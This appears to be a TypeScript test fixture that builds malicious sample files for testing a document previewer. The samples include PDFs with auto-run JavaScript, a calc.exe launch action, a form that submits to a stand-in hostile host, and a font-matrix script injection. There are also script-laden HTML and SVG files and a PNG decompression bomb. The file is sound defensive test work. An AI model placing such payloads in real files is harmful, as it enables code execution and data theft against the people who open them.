// Files that try to run, send, open or fill something when they are looked at, for the test of previews. Each that
// could draw at all would set `window.wasHere`, call out to hostile.invalid, or bring a link, a field or a frame.

const script = 'app.alert(1); globalThis.wasHere = true; fetch("https://hostile.invalid/");';

interface PdfParts {
  /** More entries of the catalog and of the page, and more objects from number 10 on. */
  readonly catalog?: string;
  readonly page?: string;
  readonly objects?: readonly string[];
  readonly content?: string;
  readonly mediaBox?: string;
}

/** A PDF of one page with the line "Page one". */
export function pdfOf({
  catalog = '',
  page = '',
  objects = [],
  content = '',
  mediaBox,
}: PdfParts = {}): string {
  const drawn = `BT /F1 24 Tf 20 100 Td (Page one) Tj ET ${content}`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox ?? '[0 0 300 200]'} /Contents 4 0 R
      /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: 4 }, () => 'null'),
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const places = all.map((body, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return `${text}xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
}

const js = `<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, String.raw`\$&`)}) >>`;
const rect = '/Rect [0 0 300 200]';
const annotation = (more: string) => ({
  page: '/Annots [10 0 R]',
  objects: [`<< /Type /Annot ${rect} ${more} >>`],
});
const field = (more: string) => ({
  catalog: '/AcroForm << /Fields [10 0 R] /NeedAppearances true >>',
  ...annotation(`/Subtype /Widget ${more}`),
});

const encode = (text: string) => new TextEncoder().encode(text);
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.wasHere = true"><script>globalThis.wasHere = true</script></svg>`;
const page = `<!doctype html><body onload="globalThis.wasHere = true"><script>globalThis.wasHere = true</script><img src=x onerror="globalThis.wasHere = true"></body>`;
const bytes = (start: readonly number[], text = '') => new Uint8Array([...start, ...encode(text)]);

/** A PNG head that claims 60,000 by 60,000 pixels. */
const pngBomb = bytes(
  [
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0xea, 0x60, 0,
    0, 0xea, 0x60, 8, 2, 0, 0, 0,
  ],
  'IDAT',
);

/** Name, bytes, and whether its page is still drawn: what is hostile in it is left out. */
export const hostileFiles: readonly (readonly [name: string, bytes: Uint8Array, isDrawn: boolean])[] = [
  ['a script when it opens', encode(pdfOf({ catalog: `/OpenAction ${js}` })), true],
  ['scripts by name', encode(pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` })), true],
  [
    'a script when it closes, saves and prints',
    encode(pdfOf({ catalog: `/AA << /WC ${js} /WS ${js} /WP ${js} >>` })),
    true,
  ],
  ['a script when the page is shown', encode(pdfOf({ page: `/AA << /O ${js} /C ${js} >>` })), true],
  ['a link to a script', encode(pdfOf(annotation(`/Subtype /Link /A ${js}`))), true],
  [
    'a link to a strange site',
    encode(pdfOf(annotation('/Subtype /Link /A << /S /URI /URI (https://hostile.invalid/) >>'))),
    true,
  ],
  [
    'a link that is a script in an address',
    encode(pdfOf(annotation('/Subtype /Link /A << /S /URI /URI (javascript:globalThis.wasHere=true) >>'))),
    true,
  ],
  ['a program to start', encode(pdfOf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' })), true],
  [
    'another file to open',
    encode(pdfOf({ catalog: '/OpenAction << /S /GoToR /F (https://hostile.invalid/x.pdf) /D [0 /Fit] >>' })),
    true,
  ],
  [
    'a form that sends itself',
    encode(
      pdfOf({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://hostile.invalid/) >> >>' }),
    ),
    true,
  ],
  [
    'a field that counts by script',
    encode(pdfOf(field(`/FT /Tx /T (a) /V (1) /AA << /C ${js} /K ${js} >>`))),
    true,
  ],
  [
    'a button that runs a script',
    encode(pdfOf(field(`/FT /Btn /T (b) /Ff 65536 /A ${js} /AA << /E ${js} >>`))),
    true,
  ],
  [
    'a form of the XFA kind',
    encode(
      pdfOf({
        catalog: '/AcroForm << /XFA 10 0 R /Fields [] >>',
        objects: [`<< /Length ${page.length} >>\nstream\n${page}\nendstream`],
      }),
    ),
    true,
  ],
  [
    'a film with a player',
    encode(pdfOf(annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>'))),
    true,
  ],
  [
    'a file inside the file',
    encode(
      pdfOf({
        catalog: '/Names << /EmbeddedFiles << /Names [(x.html) 10 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (x.html) >>'],
      }),
    ),
    true,
  ],
  [
    'a font whose matrix is a script',
    encode(
      pdfOf({
        content: 'BT /F2 20 Tf (x) Tj ET',
        page: '/Resources << /Font << /F1 5 0 R /F2 << /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); globalThis.wasHere = true; //)] >> >> >>',
      }),
    ),
    true,
  ],
  ['a page of the size of a town', encode(pdfOf({ mediaBox: '[0 0 9000000 9000000]' })), true],
  ['pages that contain themselves', encode(pdfOf().replace('/Kids [3 0 R]', '/Kids [2 0 R]')), false],
  ['a PDF that is a web page as well', encode(`%PDF-1.7\n${page}`), false],
  ['a web page called photo', encode(page), false],
  ['a drawing with a script called photo', encode(svg), false],
  ['a photo that is a web page as well', bytes([0xff, 0xd8, 0xff, 0xfe, 0, 200], page), false],
  ['a photo of four billion pixels', pngBomb, false],
  ['nothing at all', new Uint8Array(0), false],
];
